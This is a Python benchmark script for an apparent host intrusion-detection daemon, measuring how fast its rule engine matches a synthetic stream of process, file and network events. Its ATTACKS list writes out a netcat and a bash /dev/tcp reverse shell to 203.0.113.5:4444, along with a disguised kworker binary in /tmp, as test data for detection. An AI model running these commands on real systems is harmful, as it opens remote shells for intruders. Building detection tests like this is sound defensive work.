"""Rule evaluation throughput (issue 4): the full default pack against no rules, one core.

usage: PYTHONPATH=. python3 bench/bench_rules.py [--events N] [--seed S] [--rules PATH]...

A generated, realistic stream (services that fork workers, login shells that run commands,
a web server and a database with children, cron jobs, containers; connections, accepts,
file writes, credential and kernel events, a few attacks) goes through a fresh
`Graph(store=None)` and `RuleSet.match`, the daemon's hot path without the disk. Printed,
side by side, from one run (timings on this machine are noisy; compare the ratios):

  graph only          events/s through Graph.apply
  graph + rules       events/s through Graph.apply + RuleSet.match with the pack loaded
  rules only          events/s of RuleSet.match alone: the CPU time of graph + rules minus
                      that of graph only (timing each match call would cost more than the
                      call: process_time() is a 2-3 us system call in this VM)

CPU time (time.process_time, read once per pass) of this one process, so it is one core.
Each figure is the best of --repeat passes.
"""

from __future__ import annotations

import argparse
import gc
import random
import sys
import time
from collections.abc import Iterator
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from spyderd.capture.snapshot import ProcInfo
from spyderd.graph import Graph
from spyderd.model import (
    AcceptEvent,
    ConnectEvent,
    CredEvent,
    Event,
    ExecEvent,
    ExitEvent,
    FileEvent,
    ForkEvent,
)
from spyderd.rules import RuleSet, load_rules

S = 1_000_000_000
REPO = Path(__file__).resolve().parents[1]

# what a busy server runs: (exe, args, weight, activity); activity is what the command does
# between its exec and its exit: c = connect out, w = write a file, r = rename/unlink a file
COMMANDS = [
    ("/usr/bin/ls", ["ls", "-la", "/var/www"], 8, ""),
    ("/usr/bin/cat", ["cat", "/etc/hostname"], 8, ""),
    ("/usr/bin/grep", ["grep", "-r", "ERROR", "/var/log/app"], 6, ""),
    ("/usr/bin/curl", ["curl", "-s", "http://10.0.0.5/health"], 6, "c"),
    ("/usr/bin/python3", ["python3", "/opt/app/job.py", "--batch", "17"], 5, "ccww"),
    ("/bin/sh", ["sh", "-c", "date +%s >> /var/lib/app/ticks"], 5, "w"),
    ("/usr/bin/git", ["git", "pull", "--ff-only"], 2, "cwwwr"),
    ("/usr/bin/ps", ["ps", "aux"], 3, ""),
    ("/usr/bin/systemctl", ["systemctl", "is-active", "nginx"], 2, ""),
    ("/usr/bin/ssh", ["ssh", "backup@10.0.0.9", "rsync --server"], 1, "c"),
    ("/usr/sbin/logrotate", ["logrotate", "/etc/logrotate.conf"], 1, "rrw"),
    ("/usr/bin/tar", ["tar", "czf", "/var/backups/www.tgz", "/var/www"], 1, "w"),
    ("/usr/bin/sudo", ["sudo", "-u", "app", "/opt/app/bin/report"], 1, "s"),
]
WRITES = {
    "/usr/bin/python3": ["/var/lib/app/state.json", "/var/lib/app/cache/1.bin"],
    "/bin/sh": ["/var/lib/app/ticks"],
    "/usr/bin/git": ["/srv/repo/.git/index", "/srv/repo/README.md", "/srv/repo/.git/HEAD"],
    "/usr/sbin/logrotate": ["/var/log/app/app.log.1", "/var/lib/logrotate/status"],
    "/usr/bin/tar": ["/var/backups/www.tgz"],
}
ATTACKS = [
    (101, "/bin/sh", ["sh", "-c", "id; uname -a"]),  # below the web server
    (141, "/usr/bin/nc", ["nc", "-e", "/bin/sh", "203.0.113.5", "4444"]),
    (130, "/tmp/.x/kworker", ["[kworker/0:1]"]),
    (141, "/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"]),
]
# who starts commands: cron and login shells mostly, a container, the app and the database
PARENTS = [(130, 40), (141, 20), (142, 20), (150, 10), (110, 5), (120, 5)]


class Workload:
    """Builds the event stream: process trees with activity, in time order."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.t = 100 * S
        self.pid = 2000
        self.procs = [
            ProcInfo(1, 0, 0, "systemd", "/lib/systemd/systemd", ["/sbin/init"]),
            ProcInfo(100, 1, S, "nginx", "/usr/sbin/nginx", ["nginx: master process"]),
            ProcInfo(101, 100, S, "nginx", "/usr/sbin/nginx", ["nginx: worker process"], 33),
            ProcInfo(110, 1, S, "python3", "/usr/bin/python3", ["python3", "/srv/app.py"], 33),
            ProcInfo(120, 1, S, "postgres", "/usr/lib/postgresql/15/bin/postgres",
                     ["postgres"], 106),
            ProcInfo(130, 1, S, "cron", "/usr/sbin/cron", ["/usr/sbin/cron", "-f"]),
            ProcInfo(140, 1, S, "sshd", "/usr/sbin/sshd", ["sshd: /usr/sbin/sshd -D"]),
            ProcInfo(141, 140, S, "bash", "/bin/bash", ["-bash"], 1000),
            ProcInfo(142, 140, S, "bash", "/bin/bash", ["-bash"], 0),
            ProcInfo(150, 1, S, "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
                     ["containerd-shim-runc-v2"]),
        ]  # fmt: skip
        self.listening = {100: [80, 443], 101: [80], 110: [8000], 120: [5432], 140: [22]}
        self.parents = [p for p, _ in PARENTS]
        self.parent_weights = [w for _, w in PARENTS]
        self.weights = [c[2] for c in COMMANDS]

    def events(self, count: int) -> Iterator[Event]:
        produced = 0
        while produced < count:
            for ev in self._job():
                yield ev
                produced += 1
                if produced >= count:
                    return

    def _tick(self, lo: int = 20_000, hi: int = 200_000) -> int:
        self.t += self.rng.randrange(lo, hi)
        return self.t

    def _job(self) -> list[Event]:
        rng = self.rng
        out: list[Event] = []
        if rng.random() < 0.1:  # the services serve requests meanwhile
            out.append(self._accept(rng.choice((101, 110, 120, 140))))
        if rng.random() < 0.001:
            parent, exe, args = rng.choice(ATTACKS)
            activity = "c"
        else:
            parent = rng.choices(self.parents, self.parent_weights)[0]
            exe, args, _, activity = rng.choices(COMMANDS, self.weights)[0]
        out += self._spawn(parent, exe, args)
        pid = out[-1].pid
        if exe == "/bin/sh" and rng.random() < 0.5:  # a pipeline below the shell
            child = self._spawn(pid, "/usr/bin/grep", ["grep", "-c", "x"])
            out += [*child, self._exit(child[-1].pid)]
        for step in activity:
            out.append(self._activity(pid, exe, step))
        out.append(self._exit(pid))
        return out

    def _spawn(self, parent: int, exe: str, args: list[str]) -> list[Event]:
        self.pid = self.pid + 1 if self.pid < 60000 else 2000
        pid, t = self.pid, self._tick()
        return [
            ForkEvent(time=t, ktime=t, pid=pid, tid=pid, ppid=parent, child_start=t, comm="x"),
            ExecEvent(time=t + 500, ktime=t + 500, pid=pid, tid=pid, filename=exe, args=args,
                      start=t, ppid=parent, comm=exe.rsplit("/", 1)[-1][:15]),
        ]  # fmt: skip

    def _exit(self, pid: int) -> Event:
        t = self._tick(1000, 5000)
        return ExitEvent(time=t, ktime=t, pid=pid, tid=pid)

    def _accept(self, pid: int) -> Event:
        t = self._tick(1000, 20_000)
        return AcceptEvent(time=t, ktime=t, pid=pid, tid=pid, family=4, local_ip="10.0.0.2",
                           local_port=8080, remote_ip="10.0.1.7",
                           remote_port=self.rng.randrange(30000, 60000))  # fmt: skip

    def _activity(self, pid: int, exe: str, step: str) -> Event:
        rng, t = self.rng, self._tick(1000, 20_000)
        if step == "c":
            return ConnectEvent(time=t, ktime=t, pid=pid, tid=pid, family=4, local_ip="10.0.0.2",
                                local_port=rng.randrange(30000, 60000), remote_ip="10.0.0.5",
                                remote_port=443)  # fmt: skip
        if step == "s":
            return CredEvent(time=t, ktime=t, pid=pid, tid=pid, call="setresuid",
                             args=[1001, 1001, 1001])  # fmt: skip
        path = rng.choice(WRITES.get(exe, ["/var/lib/app/state.json"]))
        if step == "r":
            op = rng.choice(["rename", "unlink"])
            return FileEvent(time=t, ktime=t, pid=pid, tid=pid, op=op, path=path,
                             path2=path + ".1" if op == "rename" else "", dev=2049,
                             inode=rng.randrange(5000, 5100))  # fmt: skip
        return FileEvent(time=t, ktime=t, pid=pid, tid=pid, op="open", path=path, flags=0o1101,
                         mode=0o644, inode=rng.randrange(5000, 5100), dev=2049)


def run(events: list[Event], workload: Workload, ruleset: RuleSet | None) -> dict:
    """One pass: a fresh graph, every event applied, and matched when a rule set is given."""
    graph = Graph(None, "bench", boot_wall_ns=0, max_recent=100_000)
    graph.load_snapshot(workload.procs, listening=workload.listening)
    matches = 0
    gc.collect()
    start = time.process_time()
    if ruleset is None:
        for i, ev in enumerate(events):
            graph.apply(ev)
            if i % 5000 == 4999:
                graph.flush()
    else:
        match = ruleset.match
        for i, ev in enumerate(events):
            node = graph.apply(ev)
            if node is not None:
                matches += len(match(ev, node, graph))
            if i % 5000 == 4999:
                graph.flush()
    return {"cpu": time.process_time() - start, "matches": matches}


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--events", type=int, default=300_000)
    ap.add_argument("--seed", type=int, default=7)
    ap.add_argument("--rules", action="append", help="rule paths (default: rules/)")
    ap.add_argument("--repeat", type=int, default=3, help="best of N runs")
    args = ap.parse_args()
    workload = Workload(args.seed)
    events = list(workload.events(args.events))
    kinds: dict[str, int] = {}
    for ev in events:
        kinds[ev.kind] = kinds.get(ev.kind, 0) + 1
    rule_paths = args.rules or [str(REPO / "rules")]
    n = len(events)
    print(f"{n} events: " + ", ".join(f"{k} {v * 100 // n}%" for k, v in sorted(kinds.items())))
    base = min((run(events, workload, None) for _ in range(args.repeat)), key=lambda r: r["cpu"])
    best = None
    for _ in range(args.repeat):
        ruleset = load_rules(rule_paths)  # fresh: empty caches and sequence state each run
        result = run(events, workload, ruleset)
        if best is None or result["cpu"] < best["cpu"]:
            best, best_rs = result, ruleset
    assert best is not None
    rate_base = n / base["cpu"]
    rate_full = n / best["cpu"]
    rate_rules = n / max(best["cpu"] - base["cpu"], 1e-9)
    stats = best_rs.stats()
    print(f"rules: {len(best_rs.rules)} from {', '.join(rule_paths)}; "
          f"matches: {best['matches']}; disabled: {len(best_rs.disabled)}")  # fmt: skip
    cache = stats["ancestor_cache"]
    print(f"ancestor cache: {cache['hits']} hits, {cache['misses']} misses")
    print(f"{'':22}{'events/s':>12}{'us/event':>10}")
    for label, rate in (("graph only", rate_base), ("graph + rules", rate_full),
                        ("rules only (match)", rate_rules)):  # fmt: skip
        print(f"{label:22}{rate:>12,.0f}{1e6 / rate:>10.2f}")
    print(f"graph + rules / graph only: {rate_full / rate_base:.2f}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
